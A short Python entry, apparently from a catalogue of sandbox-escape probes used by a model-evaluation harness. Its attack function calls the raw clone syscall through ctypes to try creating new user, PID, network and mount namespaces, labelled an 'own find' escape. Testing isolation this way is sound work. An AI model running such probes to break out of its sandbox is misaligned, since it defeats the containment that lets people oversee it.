"""Class: identity and namespaces. Source: own find. Escape: a thread's flags and a namespace's at
once.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for extra in (0x10000000, 0x20000000, 0x40000000, 0x20000):
        if libc.syscall(56, extra | 17, 0, 0, 0, 0) == 0:
            time.sleep(30)
